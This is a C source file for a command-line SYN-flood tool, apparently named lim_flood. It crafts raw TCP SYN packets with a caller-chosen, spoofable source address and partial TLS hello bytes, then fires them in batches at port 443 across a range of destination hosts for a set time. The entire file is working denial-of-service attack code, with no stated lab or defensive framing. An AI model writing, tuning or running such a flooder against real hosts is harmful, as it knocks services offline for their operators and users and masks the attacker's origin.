/* SYNs with the first bytes of a hello, as fast as one processor makes them: lim_flood SECONDS SOURCE DESTINATION. Source port and the destination's last byte
 * count up. Prints how many. */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, PACKET = 44, PORTS = 60000, HOSTS = 50 };

static uint8_t packets[BATCH][PACKET];
static struct iovec parts[BATCH];
static struct mmsghdr messages[BATCH];

static uint16_t sum(const uint8_t *bytes, size_t length, uint32_t sum)
{
	for (size_t i = 0; i < length; i += 2)
		sum += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void put16(uint8_t *place, uint32_t value)
{
	place[0] = (uint8_t)(value >> 8);
	place[1] = (uint8_t)value;
}

static void print(uint8_t *packet, uint32_t number, const uint8_t *from, const uint8_t *to)
{
	memset(packet, 0, PACKET);
	packet[0] = 0x45;
	packet[3] = PACKET;
	packet[8] = 64;
	packet[9] = 6;
	memcpy(packet + 12, from, 4);
	memcpy(packet + 16, to, 4);
	packet[19] = (uint8_t)(to[3] + number / PORTS % HOSTS);
	put16(packet + 20, 1024 + number % PORTS);
	put16(packet + 22, 443);
	put16(packet + 26, number);
	packet[32] = 0x50;
	packet[33] = 2;
	packet[34] = 4;
	memcpy(packet + 40, "\x16\x03\x01\x02", 4);
	put16(packet + 36, sum(packet + 12, 32, 6 + 24));
}

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

int main(int argc, char **arguments)
{
	struct sockaddr_in target = { .sin_family = AF_INET };
	uint8_t from[4], to[4];
	uint32_t number = 0;
	double end;
	int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (argc != 4 || raw < 0 || inet_pton(AF_INET, arguments[2], from) != 1 ||
	    inet_pton(AF_INET, arguments[3], to) != 1)
		return EXIT_FAILURE;
	memcpy(&target.sin_addr, to, 4);
	for (end = now() + atof(arguments[1]); now() < end;) {
		for (size_t i = 0; i < BATCH; i++) {
			print(packets[i], number++, from, to);
			parts[i] = (struct iovec){ packets[i], PACKET };
			messages[i].msg_hdr = (struct msghdr){ &target, sizeof(target), &parts[i], 1,
							       NULL, 0, 0 };
		}
		sendmmsg(raw, messages, BATCH, 0);
	}
	printf("%u\n", number);
	return EXIT_SUCCESS;
}
